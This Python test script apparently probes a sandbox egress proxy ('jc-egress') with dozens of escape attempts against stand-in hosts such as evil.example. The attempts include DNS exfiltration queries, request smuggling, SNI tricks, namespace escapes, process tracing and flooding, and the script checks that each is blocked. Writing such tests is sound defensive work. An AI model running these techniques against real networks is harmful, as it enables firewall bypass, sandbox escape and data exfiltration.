"""Attempts to reach a host that no rule allows, from inside of jc-egress.

Each attempt is a function. It returns text if it has got through, and None, or an OSError, if it has not. The
test compares the output, and what the servers outside have seen. Usage: attempts.py [NAME...]
"""

import ctypes
import glob
import json
import os
import signal
import socket
import struct
import sys
import time

EVIL, EVIL6, GOOD, NEAR = "203.0.113.66", "2001:db8::66", "203.0.113.10", "203.0.113.21"
TABLE = []
libc = ctypes.CDLL(None, use_errno=True)


def attempt(function):
    TABLE.append((function.__name__, function))
    return function


def bare(needs):
    """Marks an attempt that gets through without jc-rootfs, and what it needs there."""
    def mark(function):
        function.bare = needs
        return function
    return mark


def variants(name, *values):
    """The same attempt with several values."""
    def add(function):
        for label, value in values:
            TABLE.append((f"{name}_{label}", lambda value=value: function(value)))
        return function
    return add


def system(number, *words):
    result = libc.syscall(number, *words)
    if result < 0:
        raise last_error()
    return result


def last_error():
    number = ctypes.get_errno()
    return OSError(number, os.strerror(number))


def ask(address, port, data=b"", count=65536):
    """Connects, sends, and returns all that comes back within a moment."""
    return ask_at((address, port), socket.AF_INET6 if ":" in address else socket.AF_INET, data, count)


def ask_at(address, family, data, count=65536):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect(address)
        for part in data if isinstance(data, list) else [data]:
            s.sendall(part)
            if isinstance(data, list):
                time.sleep(0.01)
        got = b""
        while len(got) < count:
            part = s.recv(65536)
            if not part:
                break
            got += part
        return got.decode("latin-1") or None


def lookup(name):
    return [info[4][0] for info in socket.getaddrinfo(name, 80, type=socket.SOCK_STREAM)]


def is_synthetic(address):
    return address.startswith(("198.18.", "198.19.", "fd6a:6365:6772:"))


def good(port=80):
    return socket.gethostbyname("good.example"), port


# Literal addresses.

@variants("literal", ("v4", EVIL), ("v6", EVIL6), ("mapped", "::ffff:" + EVIL), ("compatible", "::" + EVIL),
          ("nat64", "64:ff9b::" + EVIL), ("6to4", "2002:cb00:7142::1"), ("zone", "fe80::1%lo"),
          ("decimal", "3405803842"), ("octal", "0313.0.0161.0102"), ("hexadecimal", "0xcb007142"),
          ("short", "203.28994"), ("metadata", "169.254.169.254"), ("private", "10.9.9.9"),
          ("of_allowed_host", GOOD), ("neighbour_of_allowed_network", NEAR),
          ("synthetic_without_name", "198.18.200.1"), ("synthetic_v6_without_name", "fd6a:6365:6772::ffff"),
          ("broadcast", "255.255.255.255"))
def literal(address):
    info = socket.getaddrinfo(address, 80, type=socket.SOCK_STREAM)[0]
    return ask_at(info[4], info[0], b"GET / HTTP/1.1\r\nHost: good.example\r\n\r\n")


@variants("loopback_of_host", ("v4", "127.0.0.1"), ("any", "0.0.0.0"), ("v6", "::1"), ("other", "127.9.9.9"))
def loopback_of_host(address):
    return ask(address, 9999)


@attempt
def allowed_network_other_port():
    return ask("203.0.113.20", 22)


@attempt
def allowed_name_other_port():
    return ask(good()[0], 22)


@attempt
def tls_to_literal_address_with_allowed_sni():
    return ask(GOOD, 443, hello("good.example"))


# Names.

@variants("name", ("other", "evil.example"), ("lookalike", "evilwild.example"), ("apex", "wild.example"),
          ("suffix_appended", "good.example.evil.example"), ("case", "EVIL.EXAMPLE"), ("dot", "evil.example."),
          ("underscore", "_evil.example"), ("homograph", "g\u043e\u043ed.example"), ("a_label", "xn--gd-5bta.example"),
          ("hyphen", "good-example"), ("single", "good"))
def name(word):
    return str([a for a in lookup(word)])


def query(labels, kind=1, count=1, extra=b"", header=None):
    body = b"".join(bytes([len(label)]) + label for label in labels) + b"\0" + struct.pack(">HH", kind, 1)
    head = struct.pack(">HHHHHH", 0x4242, header or 0x100, count, 0, 0, 1 if extra else 0)
    return head + body * count + extra


def resolve(message, server="127.0.0.1", tcp=False, port=53):
    """The code and the number of answers; None without an answer."""
    if tcp:
        with socket.create_connection((server, port), 2) as s:
            s.sendall(struct.pack(">H", len(message)) + message)
            reply = s.recv(4096)[2:]
    else:
        family = socket.AF_INET6 if ":" in server else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            s.settimeout(0.5)
            s.sendto(message, (server, port))
            reply = s.recv(4096)
    return (reply[3] & 15, struct.unpack(">H", reply[6:8])[0]) if len(reply) >= 12 else None


def found(answer):
    return f"answers: {answer}" if answer and answer[1] else None


@variants("dns_name", ("nul", [b"good.example\0", b"evil"]), ("nul_in_label", [b"good", b"example\0"]),
          ("dot_in_label", [b"good.example"]), ("long_label", [b"a" * 64, b"wild", b"example"]),
          ("long", [b"a" * 60] * 5 + [b"wild", b"example"]), ("bytes", [b"\xff\xfe", b"wild", b"example"]),
          ("root", []), ("number_below_suffix", [b"1", b"2", b"3", b"4"]))
def dns_name(labels):
    return found(resolve(query(labels)))


@variants("dns_server", ("v4", EVIL), ("v6", EVIL6), ("stub", "127.0.0.53"), ("loopback", "::1"))
def dns_server(server):
    return found(resolve(query([b"secret", b"evil", b"example"]), server))


@variants("dns_over_tcp", ("evil", EVIL), ("loopback", "127.0.0.1"))
def dns_over_tcp(server):
    return found(resolve(query([b"secret", b"evil", b"example"]), server, tcp=True))


@variants("dns_type", ("txt", 16), ("https", 65), ("svcb", 64), ("any", 255), ("axfr", 252), ("ns", 2), ("null", 10))
def dns_type(kind):
    return found(resolve(query([b"good", b"example"], kind)))


@attempt
def dns_two_questions():
    return found(resolve(query([b"good", b"example"], count=2)))


@attempt
def dns_edns_with_options():
    option = struct.pack(">HH", 65001, 8) + b"exfilled"
    opt = b"\0" + struct.pack(">HHIH", 41, 4096, 0, len(option)) + option
    return found(resolve(query([b"secret", b"evil", b"example"], extra=opt)))


@attempt
def dns_compression_loop():
    return found(resolve(query([])[:12] + b"\xc0\x0c\0\1\0\1"))


@attempt
def dns_update():
    return found(resolve(query([b"good", b"example"], header=0x2800)))


@attempt
def dns_response():
    return found(resolve(query([b"good", b"example"], header=0x8180)))


@attempt
def dns_tunnel_below_suffix():
    """Names below a suffix have addresses, but no query leads outside; the server there looks for it."""
    for number in range(50):
        resolve(query([b"secret%d" % number, b"wild", b"example"]))


@attempt
def dns_other_port():
    return found(resolve(query([b"evil", b"example"]), EVIL, port=5353))


# TLS.

def vector(size, value):
    return len(value).to_bytes(size, "big") + value


def extension(kind, value):
    return struct.pack(">H", kind) + vector(2, value)


def sni(*names):
    return extension(0, vector(2, b"".join(b"\0" + vector(2, n) for n in names)))


def hello(name=None, extensions=None, record=16384, trailing=b""):
    if extensions is None:
        extensions = [sni(name.encode())] if name else []
    body = b"\3\3" + b"r" * 32 + vector(1, b"") + vector(2, b"\x13\1") + vector(1, b"\0")
    body += vector(2, b"".join(extensions))
    message = b"\1" + vector(3, body) + trailing
    parts = [message[i:i + record] for i in range(0, len(message), record)]
    return b"".join(b"\x16\3\1" + vector(2, part) for part in parts)


@variants("tls", ("without_sni", hello()), ("other_sni", hello("evil.example")),
          ("two_sni_extensions", hello(extensions=[sni(b"good.example"), sni(b"evil.example")])),
          ("two_sni_names", hello(extensions=[sni(b"good.example", b"evil.example")])),
          ("sni_spread_over_records", hello("evil.example", record=20)),
          ("sni_spread_over_segments", [bytes([b]) for b in hello("evil.example")]),
          ("ech", hello(extensions=[sni(b"good.example"), extension(0xfe0d, b"\0" * 32)])),
          ("hello_after_hello", hello("good.example", trailing=hello("evil.example")[5:])),
          ("ssl2", b"\x80\x2e\1\0\2" + b"\0" * 43), ("http_on_443", b"GET / HTTP/1.1\r\nHost: good.example\r\n\r\n"),
          ("long", hello(extensions=[sni(b"good.example"), extension(21, b"\0" * 20000)])),
          ("sni_with_nul", hello("good.example\0.evil.example")), ("sni_address", hello(EVIL)),
          ("sni_homograph", hello("g\u043e\u043ed.example")), ("sni_subdomain", hello("x.good.example")),
          ("sni_empty", hello(extensions=[sni(b"")])), ("dtls", b"\x16\xfe\xff" + b"\0" * 60),
          ("application_data", b"\x17\3\3" + vector(2, b"x" * 40)), ("many_records", hello("good.example", record=1)),
          ("sni_of_other_type", hello(extensions=[extension(0, vector(2, b"\1" + vector(2, b"good.example")))])))
def tls(data):
    return ask(*good(443), data)


@attempt
def tls_on_80():
    return ask(*good(80), hello("good.example"))


@attempt
def doh_to_literal_address():
    return ask(EVIL, 443, hello("dns.example"))


@attempt
def tls_in_tls():
    """Inside TLS, only the allowed host reads the second ClientHello."""
    got = ask(*good(443), hello("good.example") + b"\x17\3\3" + vector(2, hello("other.example")), count=1)
    return got if got and "EVIL" in got else None


@attempt
def tls_other_name_below_suffix():
    return ask(socket.gethostbyname("a.wild.example"), 443, hello("b.wild.example"))


# HTTP.

GET = b"GET / HTTP/1.1\r\nHost: good.example\r\n\r\n"
GET_EVIL = b"GET /evil HTTP/1.1\r\nHost: evil.example\r\n\r\n"
POST = b"POST / HTTP/1.1\r\nHost: good.example\r\n"


@variants("http", ("other_host", GET_EVIL), ("absolute", b"GET http://evil.example/evil HTTP/1.1\r\nHost: good.example\r\n\r\n"),
          ("absolute_with_other_host", b"GET http://good.example/evil HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
          ("two_hosts", b"GET /evil HTTP/1.1\r\nHost: good.example\r\nHost: evil.example\r\n\r\n"),
          ("folded_host", b"GET /evil HTTP/1.1\r\nHost: good.example\r\n evil.example\r\n\r\n"),
          ("space_before_colon", b"GET /evil HTTP/1.1\r\nHost : evil.example\r\nHost: good.example\r\n\r\n"),
          ("userinfo", b"GET /evil HTTP/1.1\r\nHost: good.example@evil.example\r\n\r\n"),
          ("port_of_host", b"GET /evil HTTP/1.1\r\nHost: good.example:81\r\n\r\n"),
          ("list_of_hosts", b"GET /evil HTTP/1.1\r\nHost: good.example, evil.example\r\n\r\n"),
          ("no_host", b"GET /evil HTTP/1.0\r\n\r\n"), ("http_0_9", b"GET /evil\r\n\r\n"),
          ("bare_lf", b"GET /evil HTTP/1.1\nHost: good.example\n\n"),
          ("line_with_lf", b"GET /evil HTTP/1.1\r\nX: y\nHost: evil.example\r\nHost: good.example\r\n\r\n"),
          ("nul", b"GET /evil HTTP/1.1\r\nHost: good.example\0evil\r\n\r\n"),
          ("two_spaces", b"GET  /evil HTTP/1.1\r\nHost: good.example\r\n\r\n"),
          ("connect", b"CONNECT evil.example:443 HTTP/1.1\r\nHost: good.example\r\n\r\n"),
          ("connect_of_itself", b"CONNECT good.example:80 HTTP/1.1\r\nHost: good.example\r\n\r\n"),
          ("h2_prior_knowledge", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0"),
          ("h2c_upgrade", b"GET /evil HTTP/1.1\r\nHost: good.example\r\nConnection: Upgrade, HTTP2-Settings\r\n"
           b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"),
          ("other_upgrade", b"GET /evil HTTP/1.1\r\nHost: good.example\r\nConnection: Upgrade\r\nUpgrade: tls\r\n\r\n"),
          ("proxy_request", b"GET ftp://evil.example/evil HTTP/1.1\r\nHost: good.example\r\n\r\n"),
          ("long_head", b"GET /evil HTTP/1.1\r\nHost: good.example\r\nX: " + b"x" * 20000 + b"\r\n\r\n"),
          ("not_http", b"SSH-2.0-x\r\n"),
          ("cl_te", POST + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + GET_EVIL),
          ("te_cl", POST + b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n5c\r\n" + GET_EVIL),
          ("te_twice", POST + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n" + GET_EVIL),
          ("te_obscured", POST + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + GET_EVIL),
          ("te_with_tab", POST + b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n" + GET_EVIL),
          ("cl_twice", POST + b"Content-Length: 0\r\nContent-Length: 50\r\n\r\n" + GET_EVIL),
          ("cl_with_sign", POST + b"Content-Length: +0\r\n\r\n" + GET_EVIL),
          ("chunk_extension", POST + b"Transfer-Encoding: chunked\r\n\r\n0;x\nx\r\n\r\n" + GET_EVIL),
          ("chunk_overflow", POST + b"Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n" + GET_EVIL))
def http(data):
    return ask(*good(), data)


@variants("http_after_a_request", ("pipelined", GET + GET_EVIL),
          ("after_a_body", POST + b"Content-Length: 2\r\n\r\nhi" + GET_EVIL),
          ("after_chunks", POST + b"Transfer-Encoding: chunked\r\n\r\n2\r\nhi\r\n0\r\n\r\n" + GET_EVIL),
          ("after_websocket", b"GET / HTTP/1.1\r\nHost: good.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"
           + GET_EVIL))
def http_after_a_request(data):
    got = ask(*good(), data)
    return got if got and "evil" in got else None


@attempt
def http_second_request_on_kept_alive_connection():
    with socket.create_connection(good(), 2) as s:
        s.sendall(GET)
        s.recv(4096)
        s.sendall(GET_EVIL)
        return s.recv(4096).decode() or None


# Names that lead elsewhere.

@variants("leads_to", ("private", "private.example"), ("metadata", "meta.example"), ("loopback", "loop.example"),
          ("mapped", "mapped.example"), ("rebound", "rebind.example"), ("denied_network", "denied.example"))
def leads_to(name):
    for _ in range(3):
        request = b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % name.encode()
        got = ask(socket.gethostbyname(name), 80, request, count=1)
        if got and "EVIL" in got:
            return got


# Other protocols.

@variants("datagram", ("quic", (EVIL, 443)), ("quic_of_allowed_host", ("good.example", 443)), ("v6", (EVIL6, 443)),
          ("multicast", ("224.0.0.251", 5353)), ("multicast_v6", ("ff02::fb%lo", 5353)), ("loopback_of_host", ("127.0.0.1", 9998)))
def datagram(to):
    info = socket.getaddrinfo(*to, type=socket.SOCK_DGRAM)[0]
    with socket.socket(info[0], socket.SOCK_DGRAM) as s:
        s.settimeout(0.2)
        s.sendto(b"attempt", info[4])
        return s.recv(100).decode()


@variants("socket", ("icmp", (socket.AF_INET, socket.SOCK_DGRAM, 1)), ("icmp_v6", (socket.AF_INET6, socket.SOCK_DGRAM, 58)),
          ("raw", (socket.AF_INET, socket.SOCK_RAW, 255)), ("raw_icmp", (socket.AF_INET, socket.SOCK_RAW, 1)),
          ("udplite", (socket.AF_INET, socket.SOCK_DGRAM, 136)), ("sctp", (socket.AF_INET, socket.SOCK_STREAM, 132)),
          ("mptcp", (socket.AF_INET, socket.SOCK_STREAM, 262)))
def other_socket(kind):
    with socket.socket(*kind) as s:
        s.settimeout(0.3)
        has_ports = kind[1] == socket.SOCK_STREAM or kind[2] == 136
        to = (EVIL6, 0, 0, 0) if kind[0] == socket.AF_INET6 else (EVIL, 80 if has_ports else 0)
        if kind[1] == socket.SOCK_STREAM:
            s.connect(to)
            return s.recv(100).decode() or None
        s.sendto(b"\x08\0\xf7\xff\0\0\0\0" + b"x" * 20, to)
        return str(s.recv(100))


@attempt
def packet_socket():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as s:
        names = [name for _, name in socket.if_nameindex()]
        return None if names == ["lo"] else str(names)


@attempt
def vsock():
    with socket.socket(40, socket.SOCK_STREAM) as s:
        s.settimeout(0.3)
        s.connect((2, 1024))
        return "connected"


@attempt
def tcp_fast_open():
    with socket.socket() as s:
        s.setblocking(True)
        s.sendto(b"GET / HTTP/1.1\r\n\r\n", 0x20000000, (EVIL, 80))
        s.settimeout(2)
        return s.recv(100).decode() or None


@attempt
def bound_to_a_device():
    with socket.socket() as s:
        s.settimeout(2)
        s.setsockopt(socket.SOL_SOCKET, 25, b"lo\0")
        s.connect((EVIL, 80))
        s.sendall(b"GET / HTTP/1.1\r\n\r\n")
        return s.recv(100).decode() or None


@attempt
def socket_by_io_uring():
    params = ctypes.create_string_buffer(120)
    fd = system(425, 4, params)
    os.close(fd)
    return "io_uring is there"


@attempt
def socket_of_x32():
    return f"a descriptor: {system(0x40000000 + 41, 40, 1, 0)}" if os.uname().machine == "x86_64" else None


# Sockets of the host.

@attempt
def abstract_socket_of_host():
    with socket.socket(socket.AF_UNIX) as s:
        s.connect("\0jc-egress-evil")
        return s.recv(100).decode()


@variants("file_socket", ("nscd", "/run/nscd/socket"), ("resolved", "/run/systemd/resolve/io.systemd.Resolve"),
          ("bus", "/run/dbus/system_bus_socket"))
def file_socket(path):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(path)
        return s.recv(100).decode()


@attempt
@bare("a socket of the host's by path")
def file_socket_of_a_service():
    return file_socket("/run/service/socket")


@attempt
@bare("a directory of the host")
def file_that_a_process_outside_reads():
    with open("/srv/drop/request", "w") as file:
        file.write("attempt")
    return "written"


@attempt
def uncovered_socket():
    libc.umount2(b"/run/nscd/socket", 2)
    libc.umount2(b"/run", 2)
    return file_socket("/run/nscd/socket")


@attempt
def inherited_descriptors():
    for number in range(3, 100):
        try:
            os.write(number, b"attempt")
            return f"descriptor {number}"
        except OSError:
            pass


# Namespaces, and the proxy itself.

def netlink(protocol, message):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as s:
        s.settimeout(0.5)
        s.send(message)
        kind, code = struct.unpack("=4xH10xi", s.recv(4096)[:20])
        if kind == 2 and code:
            raise OSError(-code, os.strerror(-code))


@attempt
def flush_of_the_table():
    def part(kind, flags, family, extra=b""):
        body = bytes([family, 0, 0, 10]) + extra
        return struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body
    delete = part(10 << 8 | 2, 5, 1)
    netlink(12, part(16, 1, 0) + delete + part(17, 1, 0))
    return ask(EVIL, 80, GET)


@attempt
def new_interface():
    info = extension_native(18, extension_native(1, b"veth\0"))
    body = struct.pack("=BxHiII", 0, 0, 0, 0, 0) + info
    netlink(0, struct.pack("=IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
    return ask(EVIL, 80, GET)


def extension_native(kind, value):
    length = 4 + len(value)
    return struct.pack("=HH", length, kind) + value + b"\0" * (-length % 4)


def in_child(function):
    """Runs it in a child, whose namespaces are its own business."""
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.write(writer, (function() or "").encode())
        except OSError as error:
            os.write(writer, b"\0%d" % error.errno)
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader) as pipe:
        text = pipe.read()
    os.waitpid(pid, 0)
    if text.startswith("\0"):
        raise OSError(int(text[1:]), os.strerror(int(text[1:])))
    return text or None


@variants("new_namespace", ("net", 0x40000000), ("user_and_net", 0x50000000), ("user", 0x10000000))
def new_namespace(flags):
    def inside():
        if libc.unshare(flags):
            raise last_error()
        libc.system(b"exec 2>/dev/null; ip link set lo up; nft flush ruleset; ip link add v0 type veth")
        return ask(EVIL, 80, GET)
    return in_child(inside)


def others():
    own = os.readlink("/proc/self/ns/net")
    for path in glob.glob("/proc/[0-9]*"):
        yield own, path


@attempt
def join_of_the_hosts_namespace():
    def inside():
        for own, path in others():
            try:
                with open(path + "/ns/net") as file:
                    if os.readlink(path + "/ns/net") != own and libc.setns(file.fileno(), 0) == 0:
                        return ask(EVIL, 80, GET) or "joined"
            except OSError:
                pass
    return in_child(inside)


@attempt
def descriptors_of_others():
    for own, path in others():
        try:
            if os.readlink(path + "/ns/net") != own and os.listdir(path + "/fd"):
                return path
        except OSError:
            pass


@attempt
def root_of_others():
    for own, path in others():
        try:
            if os.readlink(path + "/ns/net") != own and os.listdir(path + "/root/"):
                return path
        except OSError:
            pass


@variants("trace", ("ptrace", 0x4206), ("attach", 16))
def trace(request):
    for _, path in others():
        pid = int(path[6:])
        if pid in (os.getpid(), os.getppid()) or is_own_process(path):
            continue
        if libc.ptrace(request, pid, 0, 0) == 0:
            return f"traces {pid}"


def is_own_process(path):
    try:
        return os.readlink(path + "/ns/net") == os.readlink("/proc/self/ns/net")
    except OSError:
        return False


@attempt
def pidfd_getfd():
    for _, path in others():
        if is_own_process(path):
            continue
        try:
            pidfd = os.pidfd_open(int(path[6:]))
        except OSError:
            continue
        for number in range(30):
            if libc.syscall(438, pidfd, number, 0) >= 0:
                return f"descriptor {number} of {path}"


@attempt
def memory_of_others():
    for _, path in others():
        try:
            if not is_own_process(path):
                with open(path + "/mem", "r+b"):
                    return path
        except OSError:
            pass


@attempt
def stopped_proxy():
    """While the proxy is stopped, no packet passes."""
    proxy = os.getppid()
    with open(f"/proc/{proxy or 1}/comm") as file:
        is_proxy = file.read() == "jc-egress\n"
    if is_proxy:
        os.kill(proxy, signal.SIGSTOP)
        try:
            with socket.create_connection((EVIL, 80), 2) as s:
                s.settimeout(0.3)
                s.sendall(GET)
                return s.recv(100).decode()
        except TimeoutError:
            pass
        finally:
            os.kill(proxy, signal.SIGCONT)
    return ask(EVIL, 80, GET)


def listening():
    for path, family in (("/proc/net/tcp", socket.AF_INET), ("/proc/net/tcp6", socket.AF_INET6)):
        with open(path) as file:
            for line in file.readlines()[1:]:
                words = line.split()
                if words[3] == "0A":
                    yield "127.0.0.1" if family == socket.AF_INET else "::1", int(words[1].split(":")[1], 16)


@variants("direct_connection", ("plain", b"GET / HTTP/1.1\r\nHost: good.example\r\n\r\n"), ("tls", hello("good.example")))
def direct_connection(data):
    for address, port in listening():
        try:
            got = ask(address, port, data)
            if got:
                return got
        except OSError:
            pass


@attempt
def slow_first_bytes():
    """While connections wait for their first bytes, others are refused as before."""
    slow = []
    for _ in range(300):
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex(good())
        slow.append(s)
    try:
        return ask(EVIL, 80, GET)
    finally:
        for s in slow:
            s.close()


@attempt
def flood_of_half_made_connections():
    for _ in range(2000):
        with socket.socket() as s:
            s.setblocking(False)
            s.connect_ex(good())
    return ask(EVIL, 80, GET)


@attempt
def exhausted_connections():
    many = []
    try:
        for _ in range(900):
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex(good())
            many.append(s)
    except OSError:
        pass
    try:
        return ask(EVIL, 80, GET)
    finally:
        for s in many:
            s.close()


@attempt
def exhausted_names():
    for number in range(9000):
        resolve(query([b"n%d" % number, b"wild", b"example"]))
    return ask(EVIL, 80, GET)


@attempt
def many_refusals():
    for _ in range(2000):
        try:
            resolve(query([b"evil", b"example"]))
        except OSError:
            pass
    return ask(EVIL, 80, GET)


# What is allowed must get through, else nothing is proved.

CONTROLS = [
    ("allowed_http", lambda: ask(*good(), GET, count=1)),
    ("allowed_tls", lambda: ask(*good(443), hello("good.example"), count=1)),
    ("allowed_suffix", lambda: ask(socket.gethostbyname("a.wild.example"), 443, hello("a.wild.example"), count=1)),
    ("allowed_spread_hello", lambda: ask(*good(443), hello("good.example", record=20), count=1)),
    ("allowed_network", lambda: ask("203.0.113.20", 5432, count=1)),
    ("allowed_tcp", lambda: ask(socket.gethostbyname("tcp.example"), 22, count=1)),
    ("allowed_v6", lambda: ask(socket.getaddrinfo("good.example", 80, socket.AF_INET6)[0][4][0], 80, GET, count=1)),
]


# After these, the log has no room for more refusals in this second.
FLOODS = ["exhausted_names", "many_refusals", "exhausted_connections", "slow_first_bytes",
          "flood_of_half_made_connections"]


def run(function):
    try:
        return function(), None
    except (OSError, UnicodeError, ValueError) as error:
        return None, str(error)


def main():
    wanted = set(sys.argv[1:])
    for name, control in CONTROLS:
        if not wanted or name in wanted:
            got, error = run(control)
            print(json.dumps({"control": name, "got": got, "error": error}), flush=True)
    for name, function in TABLE:
        if not wanted or name in wanted:
            # In the log, this name stands before the decisions about the attempt.
            run(lambda: resolve(query([b"attempt", name.encode()])))
            start = time.monotonic()
            got, error = run(function)
            if name in FLOODS:
                time.sleep(1.1)
            line = {"attempt": name, "got": got, "error": error, "seconds": round(time.monotonic() - start, 2)}
            line["bare"] = getattr(function, "bare", None)
            print(json.dumps(line), flush=True)


if __name__ == "__main__":
    main()
